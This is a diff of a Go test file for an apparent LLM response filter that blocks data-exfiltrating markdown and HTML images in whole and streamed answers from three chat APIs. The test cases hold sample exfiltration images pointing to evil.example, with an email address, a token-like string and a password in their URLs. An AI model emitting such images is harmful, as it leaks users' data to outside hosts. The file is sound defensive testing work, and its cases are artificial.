@@ -67,54 +67,49 @@ func wholeAnswer(f Format, text string) string {
 var imageFormats = []Format{FormatOpenAIChat, FormatOpenAIResponses, FormatAnthropic}
 
 // imageStreamCases: pieces of model text; held is the piece from which
-// the stream is held (the image's first byte); exfil: the image carries
-// data, and the stream ends with the error event from there.
+// the stream is held (an image's or a definition's first byte), closes
+// the piece that closes it when that is a later one (0: none); exfil:
+// the image carries data, and the stream ends with the error event from
+// held on.
 var imageStreamCases = []struct {
-	name   string
-	pieces []string
-	held   int
-	exfil  bool
+	name        string
+	pieces      []string
+	held, close int
+	exfil       bool
 }{
-	{"exfil image split", []string{"Your summary is ready. ", "![chart](https://evil.example/c.png?d=", "alice@corp.example", ") Enjoy."}, 1, true},
-	{"bang then bracket in the next delta", []string{"Done!", "[x](https://evil.example/c.png?k=ghp_4f9a8b7c6d5e4f3a2b1c", ")"}, 1, true},
-	{"reference defined after the image", []string{"See ![logo][l] below.\n\n", "[l]: https://evil.example/l.png?u=alice@corp.example\n"}, 1, true},
-	{"html img", []string{"Here: <im", "g src=\"https://evil.example/i.png?d=my%20password%20is%20hunter2\">"}, 1, true},
-	{"image without data", []string{"Chart: ", "![chart](https://example.com/", "chart.png) as asked."}, 1, false},
-	{"bang bracket in prose", []string{"Great job!", "[citation needed] and more"}, 1, false},
-	{"plain link with data", []string{"Read [the docs](https://evil.example/?d=alice@corp.example)."}, 0, false},
-	{"no image", []string{"Plain ", "text only."}, -1, false},
+	{"exfil image split", []string{"Your summary is ready. ", "![chart](https://evil.example/c.png?d=", "alice@corp.example", ") Enjoy."}, 1, 3, true},
+	{"bang then bracket in the next delta", []string{"Done!", "[x](https://evil.example/c.png?k=ghp_4f9a8b7c6d5e4f3a2b1c", ")"}, 1, 2, true},
+	{"reference defined after the image", []string{"See ![logo][l] below.\n\n", "[l]: https://evil.example/l.png?u=alice@corp.example", "\n"}, 1, 2, true},
+	{"html img", []string{"Here: <im", "g src=\"https://evil.example/i.png?d=my%20password%20is%20hunter2\">"}, 1, 0, true},
+	{"image without data", []string{"Chart: ", "![chart](https://example.com/", "chart.png) as asked."}, 1, 2, false},
+	{"bang bracket in prose", []string{"Great job!", "[citation needed", "] and more"}, 1, 2, false},
+	{"plain link with data", []string{"Read [the docs](https://evil.example/?d=alice@corp.example)."}, 0, 0, false},
+	{"no image", []string{"Plain ", "text only."}, -1, 0, false},
 }
 
-// Whole answers of the three APIs: an image carrying data refuses the
-// answer (exfil_image, the context layer, LLM02 and AML.T0057); a clean
-// one, a plain link or prose pass.
-func TestOutputImagesWhole(t *testing.T) {
-	p, err := DefaultPolicy()
-	require.NoError(t, err)
-	for _, f := range imageFormats {
-		for _, tc := range imageStreamCases {
-			t.Run(f.String()+"/"+tc.name, func(t *testing.T) {
-				v := p.Evaluate(Input{Body: []byte(wholeAnswer(f, strings.Join(tc.pieces, ""))), Direction: Response, Format: f})
-				require.NotNil(t, v.Payload, v.Detail)
-				if !tc.exfil {
-					assert.Equal(t, ActionAllow, v.Action)
-					assert.Empty(t, p.Events(v))
-					return
-				}
-				assert.Equal(t, ActionBlock, v.Action)
-				assert.Equal(t, ReasonExfilImage, v.Reason)
-				require.Len(t, v.Segments, 1)
-				assert.Equal(t, ReasonExfilImage, v.Segments[0].Reason)
-				assert.Equal(t, "exfiltration", v.Segments[0].Findings[0].Family)
-				evs := p.Events(v)
-				require.Len(t, evs, 1)
-				assert.Equal(t, LayerContext, evs[0].Layer)
-				assert.Equal(t, ReasonExfilImage, evs[0].Reason)
-				assert.Equal(t, "LLM02:2025", evs[0].OWASP)
-				assert.Equal(t, "AML.T0057", evs[0].Attacks[0].Technique.UID)
-			})
-		}
+// checkWholeAnswer: the answer of format f holding text is refused as
+// exfil_image (the context layer, LLM02 and AML.T0057) when exfil, and
+// passes otherwise.
+func checkWholeAnswer(t *testing.T, p *Policy, f Format, text string, exfil bool) {
+	t.Helper()
+	v := p.Evaluate(Input{Body: []byte(wholeAnswer(f, text)), Direction: Response, Format: f})
+	require.NotNil(t, v.Payload, v.Detail)
+	if !exfil {
+		assert.Equal(t, ActionAllow, v.Action)
+		assert.Empty(t, p.Events(v))
+		return
 	}
+	assert.Equal(t, ActionBlock, v.Action)
+	assert.Equal(t, ReasonExfilImage, v.Reason)
+	require.Len(t, v.Segments, 1)
+	assert.Equal(t, ReasonExfilImage, v.Segments[0].Reason)
+	assert.Equal(t, "exfiltration", v.Segments[0].Findings[0].Family)
+	evs := p.Events(v)
+	require.Len(t, evs, 1)
+	assert.Equal(t, LayerContext, evs[0].Layer)
+	assert.Equal(t, ReasonExfilImage, evs[0].Reason)
+	assert.Equal(t, "LLM02:2025", evs[0].OWASP)
+	assert.Equal(t, "AML.T0057", evs[0].Attacks[0].Technique.UID)
 }
 
 // runImageStream feeds stream cut at the offsets given and returns what
@@ -141,17 +136,19 @@ func runImageStream(t *testing.T, p *Policy, f Format, stream string, cuts []int
 	return string(out), reasons, nil
 }
 
-// Streams of the three APIs split at every byte offset: the same
-// decision for every split; a clean stream reaches the client
+// Answers of the three APIs, whole (an image carrying data refuses the
+// answer; a clean one, a plain link or prose pass) and streamed, split
+// at every byte offset: the same decision for every split; a clean stream reaches the client
 // byte-identical; an image that carries data ends the stream with the
 // API's error event, and nothing of it or after it is released. While
 // an image is open, nothing after its first event is released.
-func TestOutputImagesStreamEveryOffset(t *testing.T) {
+func TestOutputImagesWholeAndStreamed(t *testing.T) {
 	p, err := DefaultPolicy()
 	require.NoError(t, err)
 	for _, f := range imageFormats {
 		for _, tc := range imageStreamCases {
 			t.Run(f.String()+"/"+tc.name, func(t *testing.T) {
+				checkWholeAnswer(t, p, f, strings.Join(tc.pieces, ""), tc.exfil)
 				stream, at := textStream(f, tc.pieces...)
 				want, wantReasons := stream, []Reason(nil)
 				if tc.exfil {
@@ -164,20 +161,18 @@ func TestOutputImagesStreamEveryOffset(t *testing.T) {
 					require.Equal(t, want, got, "cut at %d", k)
 					require.Equal(t, wantReasons, reasons, "cut at %d", k)
 				}
-				if tc.held < 0 {
+				if tc.close == 0 {
 					return
 				}
-				// Fed up to the middle of the image's last piece: held
-				// from the image's first event.
+				// Fed up to the event that closes it: held from the
+				// first event of the image (or definition) on.
 				x := p.NewExchange(ExchangeInfo{Format: f, Method: "POST"}, nil)
 				_, fail := x.ResponseHeaders("200", []string{"text/event-stream"})
 				require.Nil(t, fail)
-				last := at[len(at)-1] + 10
-				out, _, fail := x.StreamChunk(nil, []byte(stream[:last]), false)
+				out, _, fail := x.StreamChunk(nil, []byte(stream[:at[tc.close]]), false)
 				require.Nil(t, fail)
-				if tc.held < len(at)-1 || strings.Contains(tc.name, "reference") {
-					assert.Equal(t, stream[:at[tc.held]], string(out), "held from the image's first event")
-				}
+				assert.Equal(t, stream[:at[tc.held]], string(out), "held from the image's first event")
+				assert.True(t, x.Holding())
 			})
 		}
 	}
